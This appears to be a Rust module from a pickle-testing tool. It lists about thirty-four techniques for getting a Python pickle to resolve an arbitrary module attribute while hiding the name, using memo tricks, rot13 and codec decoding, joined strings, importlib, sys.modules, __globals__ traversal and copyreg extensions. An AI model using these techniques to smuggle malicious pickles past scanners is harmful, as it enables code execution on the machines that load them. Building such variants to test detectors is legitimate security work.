//! Ways to get hold of a name: each leaves on the stack what the name stands
//! for.

use super::assembler::{Op, Pickle};

/// A way, its own name, and the lowest protocol in which it is usual.
pub type Way = (&'static str, u8, fn(Pickle, &str, &str) -> Pickle);

/// Every way.
pub static WAYS: &[Way] = &[
    ("global", 0, Pickle::global),
    ("stack-global", 4, Pickle::stack_global),
    ("memo", 4, memo),
    ("memo-swapped", 4, memo_swapped),
    ("memo-rewritten", 4, memo_rewritten),
    ("memo-of-global", 2, memo_of_global),
    ("noise-between", 4, noise),
    ("pop-mark-between", 4, pop_mark),
    ("dup-and-pop", 4, dup),
    ("long-text", 4, long_text),
    ("byte-strings", 4, byte_strings),
    ("quoted-strings", 4, quoted_strings),
    ("escaped-text", 4, escaped_text),
    ("escaped-string", 4, escaped_string),
    ("wide-text", 4, wide_text),
    ("joined", 4, joined),
    ("decoded", 4, decoded),
    ("reversed-codec", 4, rot13),
    ("from-a-tuple", 4, from_a_tuple),
    ("import-and-getattr", 2, import_and_getattr),
    ("import-and-getattr-2", 2, import_and_getattr_2),
    ("attrgetter", 2, attrgetter),
    ("operator-dunder", 4, getattribute),
    ("sys-modules", 4, sys_modules),
    ("sys-modules-getitem", 4, sys_modules_getitem),
    ("module-dict", 4, module_dict),
    ("resolve-name", 2, resolve_name),
    ("locate", 2, locate),
    ("partial", 2, partial),
    ("partial-class", 4, partial_setstate),
    ("reduce-getattr", 2, reduce_getattr),
    ("builtins-of-a-function", 4, through_globals),
    ("extension", 2, extension),
    ("through-a-list", 2, through_a_list),
];

fn memo(pickle: Pickle, module: &str, name: &str) -> Pickle {
    let strings = pickle.text(module).put(7).ops(&[Op::Pop]).text(name).put(3).ops(&[Op::Pop]);
    strings
        .text("innocent")
        .text("words")
        .ops(&[Op::Pop, Op::Pop])
        .get(7)
        .get(3)
        .ops(&[Op::StackGlobal])
}

/// The name first: who reads the strings before the instruction in the order in
/// which they are written gets both wrong.
fn memo_swapped(pickle: Pickle, module: &str, name: &str) -> Pickle {
    let strings = pickle.text(name).put(0).ops(&[Op::Pop]).text(module);
    strings.get(0).ops(&[Op::StackGlobal])
}

/// `MEMOIZE` counts what the memo holds, so that it overwrites what was put
/// there.
fn memo_rewritten(pickle: Pickle, module: &str, name: &str) -> Pickle {
    let pickle = pickle.text("collections").put(1).ops(&[Op::Pop]);
    let pickle = pickle.text(module).ops(&[Op::Memoize, Op::Pop]);
    pickle.get(1).text(name).ops(&[Op::StackGlobal])
}

fn memo_of_global(pickle: Pickle, module: &str, name: &str) -> Pickle {
    pickle.global(module, name).put(9).ops(&[Op::Pop, Op::None, Op::Pop]).get(9)
}

fn noise(pickle: Pickle, module: &str, name: &str) -> Pickle {
    let pickle = pickle.text(module).int(1).ops(&[Op::Pop]).text("collections").ops(&[Op::Pop]);
    pickle.text(name).text("OrderedDict").ops(&[Op::Pop, Op::StackGlobal])
}

fn pop_mark(pickle: Pickle, module: &str, name: &str) -> Pickle {
    let pickle = pickle.text(module).ops(&[Op::Mark]).text("collections").ops(&[Op::PopMark]);
    let pickle = pickle.text(name).ops(&[Op::Mark]).text("a").text("b").ops(&[Op::PopMark]);
    pickle.ops(&[Op::StackGlobal])
}

fn dup(pickle: Pickle, module: &str, name: &str) -> Pickle {
    let pickle = pickle.text(module).ops(&[Op::Dup, Op::Pop]).text(name);
    pickle.ops(&[Op::Dup, Op::Dup, Op::Pop, Op::Pop, Op::StackGlobal])
}

fn long_text(pickle: Pickle, module: &str, name: &str) -> Pickle {
    pickle.long_text(module).long_text(name).ops(&[Op::StackGlobal])
}

fn byte_strings(pickle: Pickle, module: &str, name: &str) -> Pickle {
    pickle.short_string(module).short_string(name).ops(&[Op::StackGlobal])
}

fn quoted_strings(pickle: Pickle, module: &str, name: &str) -> Pickle {
    let quoted = |text: &str| format!("'{text}'");
    pickle.line(b'S', &quoted(module)).line(b'S', &quoted(name)).ops(&[Op::StackGlobal])
}

fn escaped_text(pickle: Pickle, module: &str, name: &str) -> Pickle {
    let escaped =
        |text: &str| text.chars().map(|c| format!("\\u{:04x}", c as u32)).collect::<String>();
    pickle.line(b'V', &escaped(module)).line(b'V', &escaped(name)).ops(&[Op::StackGlobal])
}

fn escaped_string(pickle: Pickle, module: &str, name: &str) -> Pickle {
    let escaped = |text: &str| {
        let bytes: String = text.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
        format!("\"{bytes}\"")
    };
    pickle.line(b'S', &escaped(module)).line(b'S', &escaped(name)).ops(&[Op::StackGlobal])
}

/// `BINUNICODE8`.
fn wide_text(pickle: Pickle, module: &str, name: &str) -> Pickle {
    let wide = |pickle: Pickle, text: &str| {
        pickle.raw(&[0x8d]).raw(&(text.len() as u64).to_le_bytes()).raw(text.as_bytes())
    };
    wide(wide(pickle, module), name).ops(&[Op::StackGlobal])
}

/// `"".join([…])`, whose result nobody can read off the strings.
fn join(pickle: Pickle, text: &str) -> Pickle {
    let pickle = pickle.call("builtins", "getattr", |pickle| pickle.text("").text("join"));
    let letters = |pickle| {
        text.chars().fold(pickle, |pickle: Pickle, letter| pickle.text(&letter.to_string()))
    };
    pickle.tuple(|pickle| pickle.list(letters)).ops(&[Op::Reduce])
}

fn joined(pickle: Pickle, module: &str, name: &str) -> Pickle {
    join(join(pickle, module), name).ops(&[Op::StackGlobal])
}

fn decoded(pickle: Pickle, module: &str, name: &str) -> Pickle {
    let decode = |pickle: Pickle, text: &str| {
        let arguments = |pickle: Pickle| pickle.bytes(text.as_bytes()).text("utf-8");
        pickle.call("_codecs", "decode", arguments)
    };
    decode(decode(pickle, module), name).ops(&[Op::StackGlobal])
}

fn rot13(pickle: Pickle, module: &str, name: &str) -> Pickle {
    let turned = |c: char| match c {
        'a'..='z' => (((c as u8 - b'a' + 13) % 26) + b'a') as char,
        'A'..='Z' => (((c as u8 - b'A' + 13) % 26) + b'A') as char,
        c => c,
    };
    let decode = |pickle: Pickle, text: &str| {
        let text: String = text.chars().map(turned).collect();
        pickle.call("codecs", "decode", |pickle| pickle.text(&text).text("rot13"))
    };
    decode(decode(pickle, module), name).ops(&[Op::StackGlobal])
}

/// The strings are the items of a tuple that a call takes apart.
fn from_a_tuple(pickle: Pickle, module: &str, name: &str) -> Pickle {
    let pickle = pickle.tuple(|pickle| pickle.text(module).text(name)).put(4).ops(&[Op::Pop]);
    let item = |pickle: Pickle, index| {
        pickle.call("operator", "getitem", |pickle| pickle.get(4).int(index))
    };
    item(item(pickle, 0), 1).ops(&[Op::StackGlobal])
}

fn import_and_getattr(pickle: Pickle, module: &str, name: &str) -> Pickle {
    pickle.call("builtins", "getattr", |pickle| {
        pickle.call("importlib", "import_module", |pickle| pickle.text(module)).text(name)
    })
}

fn import_and_getattr_2(pickle: Pickle, module: &str, name: &str) -> Pickle {
    pickle.call("__builtin__", "getattr", |pickle| {
        pickle.call("__builtin__", "__import__", |pickle| pickle.text(module)).text(name)
    })
}

fn attrgetter(pickle: Pickle, module: &str, name: &str) -> Pickle {
    let pickle = pickle.call("operator", "attrgetter", |pickle| pickle.text(name));
    let import =
        |pickle: Pickle| pickle.call("builtins", "__import__", |pickle| pickle.text(module));
    pickle.tuple(import).ops(&[Op::Reduce])
}

fn getattribute(pickle: Pickle, module: &str, name: &str) -> Pickle {
    pickle.call("builtins", "object.__getattribute__", |pickle| {
        pickle.call("builtins", "__import__", |pickle| pickle.text(module)).text(name)
    })
}

/// Whatever was imported is an item of `sys.modules`.
fn sys_modules(pickle: Pickle, module: &str, name: &str) -> Pickle {
    pickle.call("builtins", "getattr", |pickle| {
        pickle.call("sys", "modules.get", |pickle| pickle.text(module)).text(name)
    })
}

fn sys_modules_getitem(pickle: Pickle, module: &str, name: &str) -> Pickle {
    pickle.call("builtins", "getattr", |pickle| {
        let item = |pickle: Pickle| pickle.stack_global("sys", "modules").text(module);
        pickle.call("operator", "getitem", item).text(name)
    })
}

fn module_dict(pickle: Pickle, module: &str, name: &str) -> Pickle {
    pickle.call(module, "__dict__.get", |pickle| pickle.text(name))
}

fn resolve_name(pickle: Pickle, module: &str, name: &str) -> Pickle {
    pickle.call("pkgutil", "resolve_name", |pickle| pickle.text(&format!("{module}:{name}")))
}

fn locate(pickle: Pickle, module: &str, name: &str) -> Pickle {
    pickle.call("pydoc", "locate", |pickle| pickle.text(&format!("{module}.{name}")))
}

fn partial(pickle: Pickle, module: &str, name: &str) -> Pickle {
    pickle.call("functools", "partial", |pickle| pickle.named(module, name))
}

/// As a pickler writes a partial function: made of `print`, and then given
/// another function as its state.
fn partial_setstate(pickle: Pickle, module: &str, name: &str) -> Pickle {
    let pickle = pickle.call("functools", "partial", |pickle| pickle.named("builtins", "print"));
    let state = |pickle: Pickle| {
        let pickle = pickle.named(module, name).tuple(|pickle| pickle);
        pickle.ops(&[Op::EmptyDict, Op::None])
    };
    pickle.tuple(state).ops(&[Op::Build])
}

fn reduce_getattr(pickle: Pickle, module: &str, name: &str) -> Pickle {
    pickle.call("functools", "reduce", |pickle| {
        let pickle = pickle.named("builtins", "getattr").list(|pickle| pickle.text(name));
        pickle.call("importlib", "import_module", |pickle| pickle.text(module))
    })
}

/// Functions written in Python know their module's names, and so the builtins.
fn through_globals(pickle: Pickle, module: &str, name: &str) -> Pickle {
    pickle.call("builtins", "getattr", |pickle| {
        let import = "OrderedDict.popitem.__globals__.__getitem__";
        let pickle = pickle.call("collections", import, |pickle| pickle.text("_sys"));
        let pickle = pickle.put(5).ops(&[Op::Pop]);
        let pickle = pickle.call("builtins", "getattr", |pickle| pickle.get(5).text("modules"));
        let pickle = pickle.put(6).ops(&[Op::Pop]);
        pickle.call("builtins", "dict.get", |pickle| pickle.get(6).text(module)).text(name)
    })
}

/// The copyreg module is told of a name, which is then reached by its number.
fn extension(pickle: Pickle, module: &str, name: &str) -> Pickle {
    let register = |pickle: Pickle| pickle.text(module).text(name).int(200);
    pickle.call("copyreg", "add_extension", register).ops(&[Op::Pop]).raw(&[0x82, 200])
}

fn through_a_list(pickle: Pickle, module: &str, name: &str) -> Pickle {
    let pickle = pickle.list(|pickle| pickle.named(module, name)).put(8).ops(&[Op::Pop]);
    let pickle = pickle.call("builtins", "getattr", |pickle| pickle.get(8).text("pop"));
    pickle.ops(&[Op::EmptyTuple, Op::Reduce])
}
